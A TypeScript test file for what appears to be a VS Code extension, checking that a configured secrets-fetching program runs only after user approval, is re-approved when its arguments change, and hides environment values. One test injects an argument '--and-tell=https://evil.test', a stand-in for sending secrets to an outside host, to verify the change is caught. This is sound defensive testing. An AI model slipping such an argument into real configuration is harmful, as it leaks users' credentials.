import assert from "node:assert/strict";
import { reviewDefinitions } from "../../../src/vscode/commands/approve.ts";
import { probeProfiles } from "../../../src/vscode/commands/probe.ts";
import { fake } from "../../support/fakeVscode.ts";
import { inSession, type SessionRoom } from "./sessionRoom.ts";

const configPath = "/home/dev/.openclaw/openclaw.json";
const keyRef = { source: "exec", provider: "vault", id: "openai/work" };
const profiles = { "openai:work": { type: "api_key", provider: "openai", keyRef } };

function defineVault(room: SessionRoom, args: readonly string[], env = {}): void {
  const vault = { source: "exec", command: "/usr/local/bin/vault-key", args, env };
  room.ports.files.write(configPath, { secrets: { providers: { vault } } });
}

describe("A program that secrets come from", () => {
  beforeEach(() => fake.reset());

  it("is run only after the person saw exactly what is run, and not when they turn away", async () => {
    await inSession(profiles, async (room) => {
      defineVault(room, ["get", "--field=key"]);
      await probeProfiles(room.session, ["openai:work"]);
      assert.equal(room.ports.programs.runs.length, 0);
      const [question] = fake.messages;
      assert.match(question?.text ?? "", /Run this program to get secrets/);
      assert.match(
        question?.detail ?? "",
        /command: \/usr\/local\/bin\/vault-key\nargs: get\nargs: --field=key/,
      );
      fake.answerMessage = ({ buttons }) => buttons.find((button) => button === "Approve");
      await probeProfiles(room.session, ["openai:work"]);
      assert.equal(room.ports.programs.runs.length, 1);
    });
  });

  it("is asked for again, with the difference, when it is not what was approved", async () => {
    await inSession(profiles, async (room) => {
      defineVault(room, ["get"]);
      fake.answerMessage = ({ buttons }) => buttons.find((button) => button === "Approve");
      await probeProfiles(room.session, ["openai:work"]);
      assert.equal(room.ports.programs.runs.length, 1);
      fake.reset();
      defineVault(room, ["get", "--and-tell=https://evil.test"]);
      await probeProfiles(room.session, ["openai:work"]);
      assert.match(fake.messages[0]?.text ?? "", /has changed since you approved it/);
      assert.match(fake.messages[0]?.detail ?? "", /^\+ args: --and-tell=https:\/\/evil\.test$/m);
      assert.equal(room.ports.programs.runs.length, 1);
    });
  });

  it("is not asked for when the credentials probed do not need it", async () => {
    const over = { type: "token", provider: "openai", token: "of no worth", expires: 1 };
    const both = { ...profiles, "openai:plain": over };
    await inSession(both, async (room) => {
      defineVault(room, ["get"]);
      await probeProfiles(room.session, ["openai:plain"]);
      assert.ok(fake.messages.length > 0);
      assert.ok(fake.messages.every(({ text }) => !text.includes("Run this program")));
    });
  });

  it("shows nothing of the values its environment is given", async () => {
    const token = ["vault", "token", "of", "no", "worth"].join("-");
    await inSession(profiles, async (room) => {
      defineVault(room, ["get"], { VAULT_TOKEN: token });
      await probeProfiles(room.session, ["openai:work"]);
      assert.match(fake.messages[0]?.detail ?? "", /env: VAULT_TOKEN=sha256:/);
      assert.ok(!JSON.stringify([fake.messages, room.ports.log.lines]).includes(token));
    });
  });

  it("can be reviewed, approved and taken back from the palette", async () => {
    await inSession(profiles, async (room) => {
      defineVault(room, ["get"]);
      await room.session.refresh();
      const states: string[] = [];
      fake.asked = (list) => {
        states.push(list.items[0]?.description ?? "");
        queueMicrotask(() => list.pick("vault"));
      };
      fake.answerMessage = ({ buttons }) => buttons[0];
      await reviewDefinitions(room.session);
      await reviewDefinitions(room.session);
      await reviewDefinitions(room.session);
      assert.deepEqual(states, ["not approved yet", "approved", "not approved yet"]);
    });
  });
});
